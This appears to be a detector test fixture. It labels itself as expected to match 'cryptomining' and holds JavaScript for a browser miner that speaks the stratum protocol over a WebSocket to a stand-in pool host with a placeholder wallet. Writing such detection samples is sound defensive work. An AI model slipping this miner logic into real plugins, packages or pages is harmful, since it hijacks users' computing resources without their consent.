// expect: category=cryptomining min=95 context=plugin,package
// why: stratum messages (mining.subscribe / authorize / submit) are spoken over a WebSocket proxy.
const ws = new WebSocket('wss://pool.example:8443/proxy');
let id = 1;
const rpc = (method, params) => ws.send(JSON.stringify({ id: id++, method, params }));

ws.onopen = () => {
  rpc('mining.subscribe', ['webminer/1.0']);
  rpc('mining.authorize', ['4ExampleWalletAddressNotReal.web', 'x']);
};

ws.onmessage = (ev) => {
  const msg = JSON.parse(ev.data);
  if (msg.method === 'mining.notify') {
    const [jobId, prevHash, , , , , nbits, ntime] = msg.params;
    postMessage({ jobId, prevHash, nbits, ntime });
  }
};

onmessage = (e) => rpc('mining.submit', ['4ExampleWalletAddressNotReal.web', e.data.jobId,
  e.data.extranonce2, e.data.ntime, e.data.nonce]);
